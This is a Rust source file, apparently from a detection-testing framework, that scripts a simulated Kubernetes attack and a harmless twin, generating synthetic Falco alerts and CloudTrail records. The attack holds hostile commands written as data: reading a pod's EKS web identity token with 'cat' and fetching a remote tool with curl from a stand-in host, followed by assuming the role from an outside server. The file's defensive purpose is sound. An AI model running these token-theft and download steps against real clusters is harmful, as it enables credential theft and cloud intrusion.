//! Somebody opens a session in a pod, reads the token of its cloud role and assumes the role from a rented server. The
//! twin: the SDK in the pod renews its session, and somebody debugs the pod.

use serde_json::json;

use crate::attack::cloudtrail::{BOTO, Identity, Record};
use crate::attack::falco::Alert;
use crate::attack::kubernetes::{Actor, Call};
use crate::attack::scene::Scene;
use crate::attack::scenery::{CLOUD_AUDIENCE, node_of};
use crate::attack::story::Story;

pub(super) const STORY: Story = Story {
    id: "S3",
    title: "exec into a pod, web identity token read, its role assumed from a rented server",
    twin: "the SDK in a pod renews its session while somebody debugs the pod",
    detections: &["xsrc-exec-then-falco-alert", "xsrc-pod-token-read-then-web-identity-assumed"],
    without_rule: &[],
    while_learning: &[],
    allow: &[],
    attack,
    benign,
};

const TOKEN: &str = "/var/run/secrets/eks.amazonaws.com/serviceaccount/token";

fn provider(s: &Scene) -> String {
    format!("oidc.eks.{}.amazonaws.com/id/{}", s.cast.cluster.region, s.cast.cluster.oidc)
}

fn attack(s: &mut Scene) {
    let (cluster, pod, attacker) = (s.cast.cluster.clone(), s.cast.pod.clone(), s.cast.attacker.clone());
    let thief = Actor::person(&s.cast.engineer, "engineering").at(&attacker);
    let role_name = format!("{}-{}", pod.namespace, pod.service_account);
    s.about("cluster", cluster.name);
    s.about("pod", format!("{}/{}", pod.namespace, pod.name));
    s.about("service_account", pod.identity());
    s.about("user", thief.username());
    s.about("address", &attacker);
    node_of(s, &pod, CLOUD_AUDIENCE);

    s.wait(60);
    s.stream(Call::exec(&thief, &pod, &["sh", "-c", &format!("cat {TOKEN}")]), 2);
    s.wait_ms(180);
    s.falco(
        Alert::new("Read sensitive file untrusted", &pod, &format!("cat {TOKEN}")).parent("sh", "runc").file(TOKEN),
    );
    s.wait(35);
    let upload =
        Alert::new("Launch Ingress Remote File Copy Tools in Container", &pod, "curl -sO http://files.example/agent");
    s.stream(Call::exec(&thief, &pod, &["sh", "-c", "curl -sO http://files.example/agent"]), 3);
    s.wait_ms(140);
    s.falco(upload.parent("sh", "runc"));
    s.wait(140);
    let role = Identity::federated(&cluster, &role_name, "botocore-session-1764403200", &attacker, BOTO);
    s.about("principal", role.iam_arn());
    let provider = provider(s);
    s.cloudtrail(Record::web_identity(s.start, &cluster, &role, &provider, CLOUD_AUDIENCE, &pod.identity()));
    s.wait(12);
    s.cloudtrail(Record::new(s.start, &role, "sts", "GetCallerIdentity"));
    s.wait(10);
    s.cloudtrail(Record::new(s.start, &role, "s3", "ListBuckets").asked(json!({"Host": "s3.amazonaws.com"})));
}

fn benign(s: &mut Scene) {
    let (cluster, pod) = (s.cast.cluster.clone(), s.cast.pod.clone());
    let role_name = format!("{}-{}", pod.namespace, pod.service_account);
    s.about("cluster", cluster.name);
    s.about("pod", format!("{}/{}", pod.namespace, pod.name));
    s.about("service_account", pod.identity());
    node_of(s, &pod, CLOUD_AUDIENCE);
    s.wait(50);
    let debugger = Actor::person(&s.cast.engineer, "engineering");
    s.stream(Call::exec(&debugger, &pod, &["sh"]), 240);
    s.wait_ms(220);
    s.falco(Alert::new("Terminal shell in container", &pod, "sh").parent("containerd-shim", "systemd").terminal());
    s.wait(90);
    // The SDK reads the token file by itself, and leaves by the cluster's own way.
    let role = Identity::federated(&cluster, &role_name, "botocore-session-1764403321", &cluster.way_out, BOTO);
    let provider = provider(s);
    s.cloudtrail(Record::web_identity(s.start, &cluster, &role, &provider, CLOUD_AUDIENCE, &pod.identity()));
    s.wait(5);
    let bucket = format!("{}-{}", pod.namespace, cluster.account);
    s.cloudtrail(Record::object(s.start, &role, "GetObject", (&bucket, "config/settings.json"), json!({})));
}
